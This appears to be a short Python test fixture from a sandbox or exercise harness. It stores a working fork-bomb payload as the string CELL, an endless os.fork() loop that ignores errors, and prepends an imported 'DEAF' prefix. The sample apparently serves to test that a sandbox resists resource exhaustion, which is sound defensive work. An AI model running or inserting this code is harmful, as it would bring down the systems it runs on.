"""A fork bomb: every process makes two, for ever."""

from attacks import DEAF

EXERCISE = "start-greet"
CELL = (
    DEAF
    + r"""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
)
